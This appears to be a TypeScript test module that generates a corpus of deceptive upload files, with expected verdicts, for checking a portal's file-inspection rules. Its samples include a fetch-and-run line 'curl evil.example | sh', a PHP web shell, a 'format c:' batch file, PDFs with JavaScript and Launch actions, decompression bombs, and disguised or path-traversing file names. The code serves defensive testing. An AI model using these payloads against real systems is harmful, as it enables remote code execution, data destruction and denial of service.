import { deflateSync } from "node:zlib";
import sharp from "sharp";
import type { FileError } from "../../council/documents/rules.ts";
import { compoundFile } from "../kit/compound-file.ts";
import { pdf, picture } from "../kit/test-files.ts";
import { doc, docx } from "../kit/word.ts";
import { zip } from "../kit/zip.ts";
import { harmlessWordFiles, hostileWordFiles } from "./hostile-word.ts";

/** A hostile file, or a harmless one that resembles it. */
export interface CorpusFile {
  name: string;
  bytes: Buffer;
  /** The result that the inspection must have: an error, or "accepted" for harmless files. */
  expectedResult: FileError | "accepted";
}

const extensions = ["pdf", "jpg", "jpeg", "png", "doc", "docx"];
const text = (content: string) => Buffer.from(content, "latin1");

/**
 * Generates deceptive files, each with its expected result, so that none of them has to be stored in the
 * repository.
 */
export async function hostileCorpus(): Promise<CorpusFile[]> {
  const [jpeg, png] = [await picture("jpeg"), await picture("png")];
  return [
    ...underOtherNames(),
    ...(await polyglots(jpeg, png)),
    ...activePdfs(),
    ...macros(),
    ...hostileWordFiles(),
    ...harmlessWordFiles(),
    ...bombs(),
    ...damagedFiles(jpeg, png),
    ...(await wrongExtensions(jpeg, png)),
    ...deceptiveNames(jpeg),
  ];
}

/** Files of other types under every allowed extension, and a PDF under forbidden ones. */
function underOtherNames(): CorpusFile[] {
  const contents: [string, Buffer][] = [
    ["page", text("<!doctype html><script>alert(1)</script>")],
    ["svg", text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
    [
      "svg with a prologue",
      text(
        '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
      ),
    ],
    ["program", Buffer.concat([text("MZ\x90\x00"), Buffer.alloc(400)])],
    ["linux program", Buffer.concat([text("\x7fELF\x02\x01\x01"), Buffer.alloc(400)])],
    ["shell script", text("#!/bin/sh\ncurl evil.example | sh\n")],
    ["php", text("<?php system($_GET[0]); ?>")],
    ["batch", text("@echo off\r\nformat c:")],
    [
      "jar",
      zip([
        { name: "META-INF/MANIFEST.MF", content: "Main-Class: A" },
        { name: "A.class", content: "cafebabe" },
      ]),
    ],
    ["archive", zip([{ name: "etc/passwd", content: "root" }])],
    ["webp", text("RIFF\x24\x00\x00\x00WEBPVP8 ")],
    ["gif", text("GIF89a\x01\x00\x01\x00;")],
    ["postscript", text("%!PS-Adobe-3.0\n(%pipe%id) (w) file")],
    ["rich text", text("{\\rtf1{\\object\\objocx}}")],
    [
      "shortcut",
      Buffer.concat([
        Buffer.from("4c0000000114020000000000c000000000000046", "hex"),
        Buffer.alloc(80),
      ]),
    ],
    ["installer", compoundFile(["!_StringData", "Property"])],
  ];
  const otherTypes = contents.flatMap(([kind, bytes]) =>
    extensions.map((extension): CorpusFile => ({
      name: `${kind}.${extension}`,
      bytes,
      expectedResult: "typeNotSupported",
    })),
  );
  const otherExtensions = ["exe", "svg", "html", "js", "php", "zip", "docm", "pdf.exe", "com"].map(
    (extension): CorpusFile => ({
      name: `paper.${extension}`,
      bytes: pdf(),
      expectedResult: "typeNotSupported",
    }),
  );
  return [...otherTypes, ...otherExtensions];
}

async function polyglots(jpeg: Buffer, png: Buffer): Promise<CorpusFile[]> {
  const jar = zip([{ name: "A.class", content: "cafebabe" }]);
  const html = text("<script>alert(1)</script>");
  const withArchive: CorpusFile[] = [
    ["pdf", pdf()],
    ["jpg", jpeg],
    ["png", png],
    ["doc", doc()],
  ].map(([extension, front]) => ({
    name: `front.${String(extension)}`,
    bytes: Buffer.concat([front as Buffer, jar]),
    expectedResult: "typeNotSupported",
  }));
  const pages: CorpusFile[] = [
    "<html>",
    "<script>",
    "<svg ",
    "<!doctype html>",
    "<iframe ",
    "<?php ",
  ].map((tag) => ({
    name: "page.pdf",
    bytes: Buffer.concat([text(`%PDF-1.4\n${tag}alert(1)\n`), pdf()]),
    expectedResult: "typeNotSupported",
  }));
  // Markup after a valid picture is accepted: browsers do not look for markup in a response of a picture's type.
  const markupBehind: CorpusFile[] = [
    ["jpg", jpeg],
    ["png", png],
  ].map(([extension, front]) => ({
    name: `behind.${String(extension)}`,
    bytes: Buffer.concat([front as Buffer, html]),
    expectedResult: "accepted",
  }));
  return [...withArchive, ...pages, ...markupBehind];
}

function activePdfs(): CorpusFile[] {
  const object = (content: string) => text(`%PDF-1.7\n1 0 obj\n${content}\nendobj\n%%EOF`);
  const packedObject = (content: string) => {
    const body = deflateSync(text(content));
    return Buffer.concat([
      text(
        `%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /Filter /FlateDecode /Length ${body.length} >>\nstream\n`,
      ),
      body,
      text("\nendstream\nendobj\n%%EOF"),
    ]);
  };
  const actions = [
    "/S /JavaScript /JS (app.alert(1))",
    "/S/JavaScript/JS 5 0 R",
    "/S /Launch /F (cmd.exe)",
    "/S /Launch /Win << /F (calc.exe) >>",
    "/Subtype /RichMedia",
    "/S /J#61vaScript /J#53 (x)",
    "/#4A#61#76#61Script 2 0 R",
    "/AA << /O << /S /JavaScript /JS (x) >> >>",
    "/Names << /JavaScript 3 0 R >>",
    "/S /GoTo /Next << /S /Launch /F (a) >>",
  ];
  return actions.flatMap((action): CorpusFile[] => [
    { name: "active.pdf", bytes: object(`<< ${action} >>`), expectedResult: "active" },
    { name: "active packed.pdf", bytes: packedObject(`<< ${action} >>`), expectedResult: "active" },
  ]);
}

function macros(): CorpusFile[] {
  const macroType = "application/vnd.ms-word.document.macroEnabled.main+xml";
  const parts = [
    "word/vbaProject.bin",
    "word/vbaData.xml",
    "word/activeX/activeX1.xml",
    "word/embeddings/oleObject1.bin",
  ];
  const macrosInDocx = parts.map((name): CorpusFile => ({
    name: "macro.docx",
    bytes: docx([{ name, content: "x" }]),
    expectedResult: "active",
  }));
  const macrosInDoc = [
    ["Macros"],
    ["_VBA_PROJECT"],
    ["VBA"],
    ["Macros", "VBA", "_VBA_PROJECT_CUR"],
  ].map((names): CorpusFile => ({
    name: "macro.doc",
    bytes: compoundFile(["WordDocument", ...names]),
    expectedResult: "active",
  }));
  return [
    ...macrosInDocx,
    ...macrosInDoc,
    { name: "macro type.docx", bytes: docx([], macroType), expectedResult: "active" },
    { name: "sheet.doc", bytes: compoundFile(["Workbook"]), expectedResult: "typeNotSupported" },
  ];
}

function bombs(): CorpusFile[] {
  const zeros = Buffer.alloc(80 * 1024 * 1024);
  return [
    {
      name: "bomb.docx",
      bytes: docx([{ name: "word/document.xml", content: zeros }]),
      expectedResult: "uncheckable",
    },
    {
      name: "bomb that lies.docx",
      bytes: docx([{ name: "word/media/a.png", content: zeros, claimedSize: 10 }]),
      expectedResult: "corrupted",
    },
    {
      name: "many parts.docx",
      bytes: docx(
        Array.from({ length: 3000 }, (_, part) => ({ name: `word/${part}.xml`, content: "" })),
      ),
      expectedResult: "uncheckable",
    },
    {
      name: "packed.pdf",
      bytes: Buffer.concat([
        text("%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n"),
        deflateSync(zeros),
        text("\nendstream\nendobj\n%%EOF"),
      ]),
      expectedResult: "uncheckable",
    },
    {
      name: "beginnings.pdf",
      bytes: Buffer.concat([
        text("%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n"),
        deflateSync(Buffer.alloc(31 * 1024 * 1024, "/J")),
        text("\nendstream\nendobj\n%%EOF"),
      ]),
      expectedResult: "uncheckable",
    },
    {
      name: "streams.pdf",
      bytes: text(`%PDF-1.7\n1 0 obj\n${"stream ".repeat(500_000)}`),
      expectedResult: "accepted",
    },
    { name: "huge.png", bytes: hugePng(), expectedResult: "corrupted" },
    { name: "large.pdf", bytes: pdf("x", 5 * 1024 * 1024 + 1), expectedResult: "tooLarge" },
    { name: "largest.pdf", bytes: pdf("x", 5 * 1024 * 1024), expectedResult: "accepted" },
  ];
}

/** A picture that claims 60000 × 60000 pixels in its header and has no data. */
function hugePng(): Buffer {
  const header = Buffer.from("89504e470d0a1a0a0000000d49484452", "hex");
  const size = Buffer.alloc(8);
  size.writeUInt32BE(60_000, 0);
  size.writeUInt32BE(60_000, 4);
  return Buffer.concat([header, size, Buffer.from("0802000000", "hex"), Buffer.alloc(40)]);
}

function damagedFiles(jpeg: Buffer, png: Buffer): CorpusFile[] {
  const corrupted = (name: string, bytes: Buffer): CorpusFile => ({
    name,
    bytes,
    expectedResult: "corrupted",
  });
  return [
    ...extensions.map((extension): CorpusFile => ({
      name: `empty.${extension}`,
      bytes: Buffer.alloc(0),
      expectedResult: "empty",
    })),
    corrupted("cut.jpg", jpeg.subarray(0, 40)),
    corrupted("cut.png", png.subarray(0, 40)),
    corrupted("nothing.pdf", text("%PDF-1.4\n")),
    corrupted("cut.docx", docx().subarray(0, 200)),
  ];
}

/** Valid files of one type with the extension of another. */
async function wrongExtensions(jpeg: Buffer, png: Buffer): Promise<CorpusFile[]> {
  const valid: Record<string, Buffer> = { pdf: pdf(), jpg: jpeg, png, doc: doc(), docx: docx() };
  const webp = await sharp(png).webp().toBuffer();
  const pairs = Object.entries(valid).flatMap(([type, bytes]) =>
    Object.keys(valid).flatMap((extension): CorpusFile[] =>
      extension === type
        ? []
        : [{ name: `a ${type}.${extension}`, bytes, expectedResult: verdictOn(type, extension) }],
    ),
  );
  return [...pairs, { name: "a webp.jpg", bytes: webp, expectedResult: "typeNotSupported" }];
}

/** A picture is accepted under the extension of another picture type, because the portal serves it as its real type. */
function verdictOn(type: string, extension: string): CorpusFile["expectedResult"] {
  const pictures = ["jpg", "png"];
  return pictures.includes(type) && pictures.includes(extension) ? "accepted" : "typeNotSupported";
}

function deceptiveNames(jpeg: Buffer): CorpusFile[] {
  const refused = [
    "photo.jpg.exe",
    "photo.jpg\u202egpj.exe",
    "photo",
    ".jpg.",
    "photo.jp\u0261",
    "photo.svg",
    "photo.html",
    "photo.jpg.svg",
    "photo.docm",
    "photo.jpg.zip",
    "photo.pdf.lnk",
  ].map((name): CorpusFile => ({ name, bytes: jpeg, expectedResult: "typeNotSupported" }));
  const accepted = [
    "../../photo.jpg",
    "C:\\photo.JPG",
    "photo.exe.jpg",
    "a".repeat(400) + ".jpg",
    "\u0000photo.jpg",
  ].map((name): CorpusFile => ({ name, bytes: jpeg, expectedResult: "accepted" }));
  return [...refused, ...accepted];
}
